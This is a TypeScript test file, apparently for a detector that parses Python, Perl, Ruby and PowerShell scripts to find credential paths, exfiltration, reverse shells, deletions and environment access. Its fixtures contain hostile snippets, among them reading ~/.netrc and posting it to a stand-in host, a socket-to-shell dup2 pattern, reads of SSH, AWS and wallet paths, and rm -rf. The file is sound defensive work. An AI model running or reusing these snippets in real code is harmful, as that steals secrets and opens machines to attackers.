import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { isOfOtherLanguage } from './languages.ts';
import { placesIn } from './places.ts';
import { textsIn } from './texts.ts';
import { readOtherLanguage } from './read-other-language.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

describe('scripts of other languages', () => {
  for (const [path, text, is] of [
    ['a.py', '', true],
    ['tools/a', '#!/usr/bin/env python3\n', true],
    ['tools/a', '#!/usr/bin/perl -w\n', true],
    ['CMakeLists.txt', '', true],
    ['a.sh', '#!/bin/sh\n', false],
    ['a', '#!/usr/bin/env node\n', false],
    ['a.js', '', false],
  ] as const)
    it(`${path} ${text.trim()}`, () => assert.equal(isOfOtherLanguage(path, bytes(text)), is));
});

const PLACES: readonly (readonly [code: string, places: readonly string[]])[] = [
  ['p = Path.home() / ".ssh" / "id_rsa"', ['<home>/.ssh/id_rsa']],
  ['HOME = pathlib.Path.home()\nwith open(HOME / ".npmrc") as f: pass', ['<home>/.npmrc']],
  ['f = f"{Path.home()}/.npmrc"', ['<home>/.npmrc']],
  [String.raw`$f = "$env:APPDATA\npm\a.txt"`, ['<home>/AppData/Roaming/npm/a.txt']],
  ['os.path.join(os.path.expanduser("~"), ".aws", "credentials")', ['<home>/.aws/credentials']],
  ['pathlib.Path("/Applications") / ("A" + " B.app") / "Contents"', ['/Applications/A B.app/Contents']],
  ['my $p = "$ENV{HOME}/.netrc";', ['<home>/.netrc']],
  ["File.join(Dir.home, '.kube', 'config')", ['<home>/.kube/config']],
  ['SITE = \'/opt/a\'\nFile.read("#{SITE}/b")', ['/opt/a', '/opt/a/b']],
  ["$r = Join-Path $env:LOCALAPPDATA 'exodus'", ['<home>/AppData/Local/exodus']],
  ['== .vscode/tasks.json\n{ "version": "2.0.0" }', ['*/.vscode/tasks.json']],
  ['# open("~/.ssh/id_rsa")\nx = 1', []],
  ['print("https://a.invalid/b", "a and / or b", "%s/%s")', []],
];

describe('places that a script names', () => {
  for (const [code, places] of PLACES) it(code, () => assert.deepEqual(placesIn(textsIn(readable(code))), places));
});

function readable(code: string): string {
  return code.startsWith('#') ? code.replace(/^#.*\n/, '') : code;
}

function told(code: string): string[] {
  const { uses } = readOtherLanguage('a.py', code);
  return uses.map(({ module, path, args }) => `${module}:${path} ${args[0]?.text ?? ''}`.trim());
}

describe('what a script does by its words', () => {
  it('reads what it names and sends it', () => {
    const { uses } = readOtherLanguage(
      'a.py',
      'import urllib.request\nd = (Path.home() / ".netrc").read_text()\nurllib.request.urlopen("https://a.invalid/b", data=d.encode())',
    );
    const [read, sent] = uses;
    assert.equal(`${read?.module}:${read?.path} ${read?.args[0]?.text}`, 'fs:readFileSync <home>/.netrc');
    assert.equal(sent?.path, 'fetch');
    assert.deepEqual(sent?.args[1]?.members?.get('body')?.from, [0]);
  });
  it('asks without sending', () => {
    const { uses } = readOtherLanguage('a.py', 'urllib.request.urlretrieve("https://a.invalid/b", "out.bin")');
    assert.equal(uses.find(({ path }) => path === 'fetch')?.args[1]?.members?.get('method'), undefined);
  });
  it('starts programs', () => {
    assert.deepEqual(told('os.system("xattr -cr /a")'), ['child_process:execSync xattr -cr /a']);
    assert.deepEqual(told('subprocess.run(["chmod", "+x", exe])'), ['child_process:execSync chmod +x']);
    assert.deepEqual(told('execute_process(COMMAND systemctl --user enable a.service)'), [
      'child_process:execSync systemctl --user enable a.service',
    ]);
  });
  it('gives a shell to a connection', () => {
    assert.deepEqual(told('s = socket.create_connection(a)\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)'), [
      'net:connect',
      'child_process:spawn sh',
    ]);
    assert.deepEqual(told('s = socket.create_connection(a)\ns.close()'), []);
  });
  it('deletes what stands in the call, and names the place it stands in', () => {
    assert.deepEqual(told('import shutil\nFONTS = ["/Library/Fonts"]\nshutil.rmtree(tmp)\nshutil.rmtree("/opt/a/b")'), [
      'fs:rmSync /opt/a/b',
    ]);
    assert.deepEqual(told('os.system("sh " + os.path.dirname(os.path.abspath(__file__)) + "/x.sh")'), [
      'child_process:execSync sh <here>/x.sh',
    ]);
  });
  it('takes the environment', () => {
    assert.deepEqual(told('dict(os.environ)'), [':process.env']);
    assert.deepEqual(told('os.environ.get("NPM_TOKEN")'), [':process.env.NPM_TOKEN']);
  });
  it('does nothing', () => assert.deepEqual(told('"""Reads ~/.ssh/id_rsa"""\n# os.system("rm -rf /")\nprint(1 + 1)'), []));
  it('takes its parts from beside it', () =>
    assert.deepEqual(
      readOtherLanguage('a.py', 'from archive import Archive\nimport os.path').links.map(({ specifier }) => specifier),
      ['./archive.py', './os/path.py'],
    ));
});
